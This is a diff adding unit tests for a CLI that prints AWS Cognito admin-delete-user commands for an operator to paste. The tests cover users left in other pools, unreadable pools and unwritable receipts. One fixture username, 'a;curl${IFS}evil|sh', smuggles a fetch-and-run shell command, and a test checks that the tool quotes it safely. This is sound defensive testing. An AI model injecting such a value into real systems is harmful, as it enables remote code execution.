@@ -121,3 +121,39 @@ test('a plan is a record under --jsonl, too', async () => {
   expect([exit, written]).toEqual([0, []]);
   expect(JSON.parse(said)).toMatchObject({ tables: [{ table: 'ledger', deleted: 5 }, { table: 'state', deleted: 0 }] });
 });
+
+describe('a user who lives', () => {
+  const evil = { Username: 'a;curl${IFS}evil|sh', sub: THERE };
+
+  test('in the standby is named by the sub in the command to be pasted; a name is quoted where Cognito wants it', async () => {
+    living[STANDBY] = [evil];
+    const { message } = await refused(NEW_SUB);
+    expect(message).toMatch(new RegExp(`admin-delete-user --region us-west-2 --user-pool-id ${STANDBY} --username ${THERE}$`));
+    living[STANDBY] = [{ ...evil, status: 'EXTERNAL_PROVIDER' }];
+    expect((await refused(NEW_SUB)).message).toMatch(/--username 'a;curl\$\{IFS\}evil\|sh'$/);
+  });
+
+  test.each([['was replaced', OLD, OLD_SUB], ['a link names', 'us-east-2_Target001', 'of-target']])('in a pool that %s', async (_, pool, sub) => {
+    kept.push(...linkItems(NEW, 'us-east-2_Target001', link(NEW_SUB, 'of-target')));
+    stateToo();
+    living[pool] = [{ Username: 'x', sub }];
+    expect(await refused(NEW_SUB)).toMatchObject({ exit: 3, code: 'user-lives-elsewhere', message: expect.stringContaining(`--user-pool-id ${pool} --username ${sub}`) });
+    expect(written).toEqual([]);
+  });
+
+  test('in a pool that cannot be read is listed under what stays', async () => {
+    delete living[OLD];
+    const { exit, shown: said } = await run(NEW_SUB);
+    expect([exit, said]).toEqual([0, expect.stringContaining(`the user in the pool ${OLD}, if still there: it could not be read`)]);
+  });
+
+  /** The links are in the state table. */
+  function stateToo() {
+    tables.on(ScanCommand).callsFake(({ Segment }) => ({ Items: Segment === 0 ? kept : [] }));
+  }
+});
+
+test('a receipt that cannot be written is said before the question', async () => {
+  expect(await refused(NEW_SUB, { out: '/nowhere/receipt.json' })).toMatchObject({ exit: 64, message: expect.stringContaining('--out: /nowhere/receipt.json cannot') });
+  expect(written).toEqual([]);
+});
